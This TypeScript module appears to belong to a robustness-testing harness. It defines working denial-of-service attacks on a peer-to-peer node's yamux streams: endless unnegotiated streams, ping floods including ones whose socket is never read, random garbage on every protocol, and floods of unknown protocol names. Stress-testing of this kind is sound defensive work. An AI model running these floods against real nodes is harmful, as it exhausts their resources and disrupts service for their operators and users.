/** Attacks on streams of a complete connection: without a protocol, with garbage, and ping without pause. */
import { again, lanes } from './attack.ts'
import type { Attack, Context } from './attack.ts'
import { identifiedSession, protocols } from './peer.ts'
import { protocolLine } from './wire/bytes.ts'
import { flag, frameType, yamuxFrame } from './wire/yamux.ts'
import type { Session } from './wire/session.ts'
import type { MuxedStream } from './wire/stream.ts'

/** The header, and the beginning of a name of 1,000 characters. */
const halfNegotiated = Buffer.concat([protocolLine('/multistream/1.0.0'), Buffer.from([0xe8, 0x07]), Buffer.alloc(900, 0x61)])

/** Opens streams, 100 in a piece, and negotiates none to its end. */
async function neverNegotiated(context: Context, session: Session): Promise<void> {
  while (!context.isOver && !session.isClosed) {
    const frames = Array.from({ length: 100 }, (_, i) => {
      const id = session.takeStreamId()
      const first = i % 2 === 0 ? halfNegotiated : Buffer.alloc(0)
      return yamuxFrame(frameType.data, flag.syn, id, first.length, first)
    })
    session.raw(...frames)
    context.count('streams', frames.length)
    await session.channel.drained()
    await context.pause(10)
  }
}

const noise = [
  (context: Context): Buffer => context.random.bytes(1 + context.random.below(4_096)),
  (): Buffer => Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f]),
  (): Buffer => Buffer.from([0xff, 0xff, 0xff, 0xff, 0x07]),
  (): Buffer => Buffer.alloc(16),
  (context: Context): Buffer => Buffer.concat([Buffer.from([100]), context.random.bytes(100)])
]

/** Garbage on every protocol that a node has, each on a stream of its own. */
async function garbage(context: Context): Promise<void> {
  const session = await identifiedSession(context)
  for (const protocol of Object.values(protocols)) {
    const stream = await session.open(protocol)
    stream.post(noise[context.random.below(noise.length)]?.(context) ?? Buffer.alloc(1))
    context.count('streams')
    if (context.random.below(2) === 0) {
      stream.finish()
    } else {
      stream.reset()
    }
  }

  await context.pause(50)
  session.close()
}

async function multistreamGarbage(context: Context): Promise<void> {
  const session = await identifiedSession(context)
  for (let i = 0; i < 20 && !session.isClosed; i++) {
    session.bare().post(noise[i % noise.length]?.(context) ?? Buffer.alloc(1))
    context.count('streams')
  }

  await context.pause(50)
  session.close()
}

/** Pings as fast as the victim takes them; `reads` false: it gets no window for its answers. */
async function pingFlood(context: Context, reads: boolean): Promise<void> {
  const session = await identifiedSession(context)
  const pings = Buffer.alloc(32 * 1024)
  await lanes(8, async () => {
    await again(context, 'streams', async () => {
      const stream = await session.open(protocols.ping)
      stream.readsOn = reads
      const reading = reads ? drain(stream) : Promise.resolve()
      while (!context.isOver && !stream.isEnded && !session.isClosed) {
        await stream.send(pings)
        context.count('pings', pings.length / 32)
        await context.breathe()
      }
      await reading
    })
  }).finally(() => session.close())
}

async function drain(stream: MuxedStream): Promise<void> {
  try {
    for (;;) {
      await stream.readAny()
    }
  } catch {
    // the stream ended
  }
}

/** Pings on a connection whose socket is not read at all. */
async function deafPings(context: Context): Promise<void> {
  const session = await identifiedSession(context)
  const stream = await session.open(protocols.ping)
  session.channel.pause()
  // the victim's windows are not seen any more; it gives back what it reads
  const frame = yamuxFrame(frameType.data, flag.none, stream.id, 32 * 1024, Buffer.alloc(32 * 1024))
  while (!context.isOver && !session.isClosed) {
    session.raw(frame)
    context.count('pings', 1_024)
    await session.channel.drained()
    await context.pause(5)
  }
  session.close()
}

async function unknownProtocols(context: Context): Promise<void> {
  const session = await identifiedSession(context)
  const stream = session.bare()
  await stream.send(protocolLine('/multistream/1.0.0'))
  while (!context.isOver && !session.isClosed) {
    const lines = Array.from({ length: 100 }, () => protocolLine(`/unknown/${context.random.text(16)}`))
    await stream.send(Buffer.concat(lines))
    context.count('protocols named', lines.length)
    await context.breathe()
  }
}

export const streamAttacks: readonly Attack[] = [
  {
    name: 'streams-never-negotiated',
    fault: 5,
    does: 'streams without end, none negotiated, on ten connections',
    run: async context => {
      await lanes(10, async () => {
        await again(context, 'connections', async () => await neverNegotiated(context, await identifiedSession(context)))
      })
    }
  },
  {
    name: 'pings-without-pause',
    fault: 5,
    does: 'ping on eight streams of four connections as fast as it is taken; answers are read',
    run: async context =>
      await lanes(4, async () => await again(context, 'connections', async () => await pingFlood(context, true)))
  },
  {
    name: 'pings-never-read',
    fault: 5,
    does: 'the same; no answer is read, stream by stream',
    run: async context =>
      await lanes(4, async () => await again(context, 'connections', async () => await pingFlood(context, false)))
  },
  {
    name: 'pings-socket-never-read',
    fault: 5,
    does: 'pings at 6 MB/s on each of four connections whose sockets are not read',
    run: async context => await lanes(4, async () => await again(context, 'connections', async () => await deafPings(context)))
  },
  {
    name: 'stream-garbage',
    fault: 1,
    does: 'garbage on streams of every protocol of the node',
    run: async context => await lanes(4, async () => await again(context, 'connections', async () => await garbage(context)))
  },
  {
    name: 'stream-multistream-garbage',
    fault: 1,
    does: 'garbage instead of multistream-select on fresh streams',
    run: async context =>
      await lanes(4, async () => await again(context, 'connections', async () => await multistreamGarbage(context)))
  },
  {
    name: 'stream-unknown-flood',
    fault: 5,
    does: 'names unknown protocols without pause on one stream',
    run: async context => await again(context, 'streams', async () => await unknownProtocols(context))
  }
]
